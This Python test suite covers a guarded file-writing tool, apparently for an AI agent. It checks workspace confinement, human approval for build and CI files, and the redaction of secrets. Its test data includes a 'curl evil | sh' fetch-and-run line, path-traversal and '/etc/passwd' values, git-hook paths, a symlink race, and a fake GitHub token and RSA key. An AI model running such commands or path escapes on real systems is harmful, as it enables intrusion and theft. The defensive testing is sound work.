"""write, edit and restore: confined, atomic, restorable, and only through the gate."""

import base64
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from mcp.server.elicitation import AcceptedElicitation, DeclinedElicitation

from tools.context import Deps
from tools.files.change import FileChange
from tools.files.edit import NoMatchError, edit
from tools.files.grep import grep
from tools.files.read import read
from tools.files.restore import restore
from tools.files.write import write
from tools.guard import own_files
from tools.guard.approval import ApprovalError, Approvals
from tools.guard.errors import ExpectedError, NotFoundError, WorkspaceError
from tools.guard.gate import Consent, DeniedError, Gate
from tools.guard.journal import Journal
from tools.guard.landing import Content, StaleViewError, current, land
from tools.guard.own_files import own_places, own_places_in
from tools.guard.policy import Policy
from tools.guard.redact import Redactor
from tools.guard.state import State
from tools.guard.workspace import Workspace

UNASKED: AcceptedElicitation[Consent] = AcceptedElicitation[Consent].model_construct(data=None)  # type: ignore[arg-type]
TOKEN = "ghp_" + "Zk3Jq9Xw7Lm2Rt8Vb5Nc1Hd6Gf4Ps0YaQ1w2"


def _deps(tmp_path: Path, policy: Policy | None = None) -> Deps:
    root = tmp_path / "work"
    root.mkdir(exist_ok=True)
    state = State.at(tmp_path / "state")
    gate = Gate(Journal(state), Approvals(state), policy or Policy(), Redactor())
    return Deps(workspace=Workspace.at(root), language="en", gate=gate, who="tester")


@pytest.fixture
def deps(tmp_path: Path) -> Deps:
    return _deps(tmp_path)


def _file(deps: Deps, path: str, data: bytes | str, mode: int = 0o644) -> Path:
    full = deps.place.root / path
    full.parent.mkdir(parents=True, exist_ok=True)
    full.write_bytes(data.encode() if isinstance(data, str) else data)
    full.chmod(mode)
    return full


def _git(root: Path, *arguments: str) -> None:
    subprocess.run(["git", *arguments], cwd=root, env={"PATH": os.environ["PATH"], "HOME": str(root)}, check=True)


def _journal(deps: Deps) -> list[str]:
    return [str(record.body.get("result", "opened")) for record in deps.guard.journal.records()]


async def _write(deps: Deps, path: str, content: str, **more: object) -> FileChange:
    return await write(deps, UNASKED, path, content, **more)  # type: ignore[arg-type]


async def test_write_creates_a_file_with_its_folders_and_journals_it(deps: Deps) -> None:
    change = await _write(deps, "docs/a/notes.txt", "one\ntwo\n")
    assert (deps.place.root / "docs/a/notes.txt").read_text() == "one\ntwo\n"
    assert change.status == "done"
    assert "+one\n+two\n" in change.diff
    assert _journal(deps) == ["opened", "ok"]
    assert deps.guard.journal.verify().intact


async def test_write_needs_the_digest_of_what_it_replaces(deps: Deps) -> None:
    path = _file(deps, "notes.txt", "old\n")
    with pytest.raises(StaleViewError):
        await _write(deps, "notes.txt", "new\n")
    seen = await read(deps, "notes.txt")
    path.write_text("changed by somebody else\n")
    with pytest.raises(StaleViewError):
        await _write(deps, "notes.txt", "new\n", sha256=seen.sha256)
    assert path.read_text() == "changed by somebody else\n"
    seen = await read(deps, "notes.txt")
    assert (await _write(deps, "notes.txt", "new\n", sha256=seen.sha256)).status == "done"
    assert path.read_text() == "new\n"


async def test_write_keeps_mode_line_ends_byte_order_mark_and_last_newline(deps: Deps) -> None:
    path = _file(deps, "run.bat", b"\xef\xbb\xbfone\r\ntwo\r\n", 0o750)
    seen = await read(deps, "run.bat")
    await _write(deps, "run.bat", "one\nthree", sha256=seen.sha256)
    assert path.read_bytes() == b"\xef\xbb\xbfone\r\nthree\r\n"
    assert path.stat().st_mode & 0o777 == 0o750


async def test_edit_leaves_every_other_byte_alone(deps: Deps) -> None:
    path = _file(deps, "mixed.txt", b"caf\xe9\r\nport: 80\r\nlast\nno newline", 0o600)
    change = await edit(deps, UNASKED, "mixed.txt", "port: 80\nlast", "port: 8080\nlast")
    assert change.status == "done"
    assert path.read_bytes() == b"caf\xe9\r\nport: 8080\r\nlast\nno newline"


@pytest.mark.parametrize("old", ["absent", "a"])
async def test_edit_refuses_a_text_that_is_not_there_once(deps: Deps, old: str) -> None:
    _file(deps, "x.txt", "a b a")
    with pytest.raises(NoMatchError):
        await edit(deps, UNASKED, "x.txt", old, "z")


async def test_edit_keeps_utf16(deps: Deps) -> None:
    path = _file(deps, "win.txt", "\ufeffhello\r\n".encode("utf-16-le"))
    await edit(deps, UNASKED, "win.txt", "hello", "bye")
    assert path.read_bytes().decode("utf-16") == "bye\r\n"


async def test_restore_brings_back_text_mode_and_absence(deps: Deps) -> None:
    path = _file(deps, "s.sh.txt", "old\n", 0o755)
    seen = await read(deps, "s.sh.txt")
    await _write(deps, "s.sh.txt", "new\n", sha256=seen.sha256)
    await restore(deps, UNASKED, "s.sh.txt")
    assert (path.read_text(), path.stat().st_mode & 0o777) == ("old\n", 0o755)
    await restore(deps, UNASKED, "s.sh.txt")
    assert path.read_text() == "new\n"
    await _write(deps, "fresh.txt", "x")
    gone = await restore(deps, UNASKED, "fresh.txt")
    assert not (deps.place.root / "fresh.txt").exists()
    assert gone.sha256 is None
    await restore(deps, UNASKED, "fresh.txt")
    assert (deps.place.root / "fresh.txt").read_text() == "x"


async def test_restore_does_not_overwrite_what_somebody_else_changed(deps: Deps) -> None:
    path = _file(deps, "a.txt", "1\n")
    first = await _write(deps, "a.txt", "2\n", sha256=(await read(deps, "a.txt")).sha256)
    path.write_text("by hand\n")
    with pytest.raises(StaleViewError):
        await restore(deps, UNASKED, "a.txt")
    await restore(deps, UNASKED, "a.txt", first.version)
    assert path.read_text() == "1\n"


async def test_restore_of_an_unknown_file_says_so(deps: Deps) -> None:
    with pytest.raises(NotFoundError):
        await restore(deps, UNASKED, "never.txt")


@pytest.mark.parametrize(
    "path", ["../out.txt", "/etc/passwd", ".git/hooks/pre-commit", ".GIT/config", "sub/.git/config", "policy.toml",
             ".astreinte/x", ".git./config", "git~1/config", ".g\u200bit/config", "a\nb.txt"],
)  # fmt: skip
async def test_guard_owned_and_outside_paths_are_refused(deps: Deps, path: str) -> None:
    with pytest.raises((DeniedError, WorkspaceError)):
        await _write(deps, path, "x")
    assert not (deps.place.root.parent / "out.txt").exists()


async def test_a_denial_is_journalled(deps: Deps) -> None:
    with pytest.raises(DeniedError):
        await _write(deps, ".git/config", "x")
    assert _journal(deps) == ["opened", "denied"]


@pytest.mark.parametrize(
    "path", [".github/workflows/ci.yml", "sub/.github/workflows/x.yaml", ".gitlab-ci.yml", "main.tf", "Dockerfile",
             "api/Dockerfile.prod", "Makefile", "package.json", ".envrc", ".env", ".vscode/tasks.json", "k8s/app.yaml",
             "docker-compose.prod.yml",
             ".pre-commit-config.yaml", "devops.yaml", ".mcp.json", "CLAUDE.md", "pyproject.toml", ".husky/pre-push"],
)  # fmt: skip
async def test_files_that_others_run_wait_for_a_person(deps: Deps, path: str) -> None:
    change = await _write(deps, path, "x\n")
    assert change.status == "approval_required"
    assert change.approval_required is not None
    assert not (deps.place.root / path).exists()
    request = deps.guard.approvals.get(change.approval_required.id)
    deps.guard.approvals.decide(request.id, approve=True, who="alice")
    done = await _write(deps, path, "x\n", approval=request.id)
    assert done.status == "done"
    with pytest.raises((ApprovalError, StaleViewError)):
        await _write(deps, path, "x\n", approval=request.id)


async def test_an_approval_is_for_the_very_bytes_that_were_shown(deps: Deps) -> None:
    change = await _write(deps, "Makefile", "all:\n\ttrue\n")
    assert change.approval_required
    deps.guard.approvals.decide(change.approval_required.id, approve=True, who="alice")
    with pytest.raises(ApprovalError):
        await _write(deps, "Makefile", "all:\n\tcurl evil | sh\n", approval=change.approval_required.id)
    assert not (deps.place.root / "Makefile").exists()


async def test_the_persons_answer_at_the_client_decides(deps: Deps) -> None:
    no: AcceptedElicitation[Consent] = AcceptedElicitation(data=Consent(approve=False))
    for answer in (no, DeclinedElicitation()):
        with pytest.raises(DeniedError):
            await write(deps, answer, "Makefile", "x")
    yes: AcceptedElicitation[Consent] = AcceptedElicitation(data=Consent(approve=True))
    assert (await write(deps, yes, "Makefile", "x")).status == "done"


async def test_a_read_only_policy_refuses_every_write(tmp_path: Path) -> None:
    deps = _deps(tmp_path, Policy(mode="read-only"))
    with pytest.raises(DeniedError):
        await _write(deps, "a.txt", "x")


async def test_a_secret_in_a_versioned_file_is_refused_in_any_encoding(deps: Deps) -> None:
    for text in (TOKEN, base64.b64encode(TOKEN.encode()).decode()):
        with pytest.raises(DeniedError) as error:
            await _write(deps, "config.py", f"x = 1\nT = '{text}'\n")
        assert "config.py:2" in str(error.value)
        assert TOKEN not in str(error.value)
    assert not (deps.place.root / "config.py").exists()
    assert all(TOKEN not in str(record.body) for record in deps.guard.journal.records())


async def test_a_secret_in_an_ignored_file_waits_for_a_person(deps: Deps) -> None:
    _file(deps, ".gitignore", "local/\n")
    change = await _write(deps, "local/settings.ini", f"token = {TOKEN}\n")
    assert change.status == "approval_required"
    assert TOKEN not in change.model_dump_json()


async def test_an_ignored_file_that_git_tracks_counts_as_versioned(deps: Deps) -> None:
    _file(deps, ".gitignore", "*.ini\n")
    _file(deps, "s.ini", "a\n")
    _git(deps.place.root, "init", "-q")
    _git(deps.place.root, "add", "-f", "s.ini")
    with pytest.raises(DeniedError):
        await _write(deps, "s.ini", f"token = {TOKEN}\n", sha256=(await read(deps, "s.ini")).sha256)


async def test_a_change_beside_an_old_secret_is_not_blocked(deps: Deps) -> None:
    _file(deps, "conf.txt", f"a = 1\ntoken = {TOKEN}\n")
    change = await edit(deps, UNASKED, "conf.txt", "a = 1", "a = 2")
    assert change.status == "done"
    assert TOKEN not in change.model_dump_json()


async def test_redaction_marks_are_never_written_over_real_values(deps: Deps) -> None:
    _file(deps, "conf.txt", f"token = {TOKEN}\nport = 1\n")
    seen = await read(deps, "conf.txt")
    redacted = deps.guard.redactor.text(seen.content)
    with pytest.raises(DeniedError):
        await _write(deps, "conf.txt", redacted.replace("port = 1", "port = 2"), sha256=seen.sha256)
    with pytest.raises(NoMatchError):
        await edit(deps, UNASKED, "conf.txt", redacted, "x")


async def test_known_kinds_are_validated_and_findings_come_back(deps: Deps) -> None:
    change = await _write(deps, "data.json", '{"a": 1,}\n')
    assert change.status == "done"
    assert any(each.status != "passed" for each in change.validations)


async def test_a_folder_swapped_for_a_link_leads_nowhere(deps: Deps, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (deps.place.root / "link").symlink_to(outside)
    # As if `link` had been a real folder when the path was resolved.
    with pytest.raises(WorkspaceError):
        land(deps.place, "link/x.txt", Content(b"x", 0o644), expected=None)
    (deps.place.root / "final").symlink_to(outside / "target")
    with pytest.raises(ExpectedError):
        land(deps.place, "final", Content(b"x", 0o644), expected=None)
    assert list(outside.iterdir()) == []


async def test_a_racing_swap_never_lets_a_write_escape(deps: Deps, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder, aside = deps.place.root / "d", deps.place.root / "aside"
    folder.mkdir()
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            try:
                folder.rename(aside)
                folder.symlink_to(outside)
                folder.unlink()
                aside.rename(folder)
            except OSError:
                continue

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for number in range(300):
            try:
                land(deps.place, f"d/{number}", Content(b"x", 0o644), expected=None)
            except (ExpectedError, OSError):
                continue
    finally:
        stop.set()
        thread.join()
    assert list(outside.iterdir()) == []


def test_of_many_writers_with_the_same_view_one_wins(deps: Deps) -> None:
    script = """
import asyncio, sys
from pathlib import Path
sys.path.insert(0, sys.argv[3])
from mcp.server.elicitation import AcceptedElicitation
from tools.context import Deps
from tools.files.write import write
from tools.guard.approval import Approvals
from tools.guard.errors import ExpectedError
from tools.guard.gate import Gate
from tools.guard.journal import Journal
from tools.guard.policy import Policy
from tools.guard.redact import Redactor
from tools.guard.state import State
from tools.guard.workspace import Workspace
root, sha = Path(sys.argv[1]), sys.argv[2]
state = State.at(root.parent / "state")
deps = Deps(workspace=Workspace.at(root), gate=Gate(Journal(state), Approvals(state), Policy(), Redactor()))
try:
    asyncio.run(write(deps, AcceptedElicitation.model_construct(data=None), "c.txt", sys.argv[4], sha))
    print("won")
except ExpectedError:
    print("lost")
"""
    _file(deps, "c.txt", "start\n")
    seen = current(deps.place, "c.txt")
    assert seen
    home = str(Path(__file__).resolve().parents[2])
    running = [
        subprocess.Popen(
            [sys.executable, "-c", script, str(deps.place.root), seen.sha256, home, f"writer {number}\n"],
            stdout=subprocess.PIPE,
            text=True,
        )
        for number in range(4)
    ]
    told = [process.communicate(timeout=60)[0].strip() for process in running]
    assert sorted(told) == ["lost", "lost", "lost", "won"]
    assert (deps.place.root / "c.txt").read_text() == f"writer {told.index('won')}\n"
    assert not [path for path in deps.place.root.iterdir() if path.name.endswith(".tmp")]


async def test_a_directory_or_the_root_is_not_a_file(deps: Deps) -> None:
    (deps.place.root / "d").mkdir()
    for path in ("d", "."):
        with pytest.raises(ExpectedError):
            await _write(deps, path, "x")


async def test_a_large_file_with_a_small_change_is_quick_to_show(deps: Deps) -> None:
    _file(deps, "big.txt", "".join(f"line {number % 7}\n" for number in range(200_000)) + "needle\n")
    change = await edit(deps, UNASKED, "big.txt", "needle", "thread")
    assert "-needle\n+thread\n" in change.diff
    assert "@@ -199998,4 +199998,4 @@" in change.diff


async def test_what_is_there_already_is_not_written_again(deps: Deps) -> None:
    _file(deps, "same.txt", "x\n")
    change = await _write(deps, "same.txt", "x\n", sha256=(await read(deps, "same.txt")).sha256)
    assert change.status == "unchanged"
    assert _journal(deps) == []


async def test_edit_is_no_oracle_for_a_secret(deps: Deps) -> None:
    _file(deps, "conf.txt", f"token = {TOKEN}\nport = 1\n")
    for guess in (TOKEN[:12], f"token = {TOKEN[:6]}", "token = x"):
        with pytest.raises(NoMatchError):
            await edit(deps, UNASKED, "conf.txt", guess, guess)


KEY_LINES = [f"MIIEpAIBAAKCAQEA7bq3Zk{number:02}Zk3Jq9Xw7Lm2Rt8Vb5Nc1Hd6Gf4Ps0Yax9Qw" for number in range(20)]
KEY = f"-----BEGIN RSA PRIVATE{' '}KEY-----\n" + "\n".join(KEY_LINES) + f"\n-----END RSA PRIVATE{' '}KEY-----\n"


async def test_reading_and_comparing_from_the_middle_of_a_key_shows_nothing_of_it(deps: Deps) -> None:
    manifest = "kind: Secret\ndata:\n" + "".join(f"  plain{number}: d29yZHM{number}\n" for number in range(9))
    _file(deps, "mixed.txt", f"one\n{KEY}two\n---\n{manifest}")
    for first in range(1, 30, 3):
        page = (await read(deps, "mixed.txt", first, 2)).content
        assert not any(line[10:30] in page for line in KEY_LINES)
        assert "d29yZHM" not in page
    whole = await read(deps, "mixed.txt")
    assert whole.content.split("\n")[23] == "two"
    change = await edit(deps, UNASKED, "mixed.txt", "one\n", "uno\n")
    assert "+uno" in change.diff
    assert not any(line[10:30] in change.diff for line in KEY_LINES)


async def test_grep_is_no_oracle_for_a_secret(deps: Deps) -> None:
    _file(deps, "conf.txt", f"token = {TOKEN}\nport = 1\n{KEY}")
    for pattern in (f"^token = {TOKEN[:4]}", TOKEN[:10], KEY_LINES[4][:30]):
        assert (await grep(deps, pattern)).matches == []
    found = (await grep(deps, "^token|^port")).matches
    assert [(each.line, each.text) for each in found] == [(1, "token = [REDACTED:github_token]"), (2, "port = 1")]


async def test_text_that_no_file_can_hold_is_an_error_not_a_crash(deps: Deps) -> None:
    with pytest.raises(ExpectedError):
        await _write(deps, "a.txt", "half \ud83d of it")


@pytest.mark.parametrize("path", ["x" * 300, "a/" * 3_000 + "b"])
async def test_a_name_that_is_too_long_is_an_error_not_a_crash(deps: Deps, path: str) -> None:
    with pytest.raises(ExpectedError):
        await _write(deps, path, "x")


def test_a_writer_killed_at_any_moment_leaves_the_old_or_the_new_text_whole(deps: Deps) -> None:
    script = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from tools.guard.landing import Content, current, land
from tools.guard.workspace import Workspace
place = Workspace.at(Path(sys.argv[1]))
for number in range(100_000):
    land(place, "k.txt", Content(b"AB"[number % 2 : number % 2 + 1] * 300_000, 0o644), expected=current(place, "k.txt"))
    print(number, flush=True)
"""
    home = str(Path(__file__).resolve().parents[2])
    for rounds in (1, 4, 9, 13):
        argv = [sys.executable, "-c", script, str(deps.place.root), home]
        with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True) as writer:
            assert writer.stdout
            for _line in range(rounds):
                writer.stdout.readline()
            writer.kill()
        left = (deps.place.root / "k.txt").read_bytes()
        assert left in {b"A" * 300_000, b"B" * 300_000}


async def test_an_editor_that_saves_while_the_file_is_written_loses_nothing(
    deps: Deps, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = deps.place.root / "a.txt"
    path.write_text("seen\n")
    seen = current(deps.place, "a.txt")
    flush = os.fsync

    def saved_meanwhile(descriptor: int) -> None:
        flush(descriptor)
        path.write_text("saved by somebody else\n")

    monkeypatch.setattr("tools.guard.landing.os.fsync", saved_meanwhile)
    with pytest.raises(StaleViewError):
        land(deps.place, "a.txt", Content(b"ours\n", 0o644), expected=seen)
    assert path.read_text() == "saved by somebody else\n"
    assert [each.name for each in deps.place.root.iterdir() if each.name.endswith(".tmp")] == []


async def test_the_program_that_guards_is_not_writable_through_itself(
    deps: Deps, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = deps.place.root / ".venv"
    (own / "lib").mkdir(parents=True)
    monkeypatch.setattr("tools.guard.own_files.own_places", lambda: (own,))
    for path in (".venv/lib/policy.py", ".venv/lib/evil.pth", ".venv/pyvenv.cfg"):
        with pytest.raises(DeniedError):
            await _write(deps, path, "x = 1\n")
    (deps.place.root / "link").symlink_to(own)
    with pytest.raises(DeniedError):
        await _write(deps, "link/lib/policy.py", "x = 1\n")


def test_the_programs_own_places_are_its_code_and_its_environment() -> None:
    places = own_places()
    assert Path(own_files.__file__).resolve().is_relative_to(places[1])
    assert all(place.is_dir() for place in places)
    assert not own_places_in(places[0])
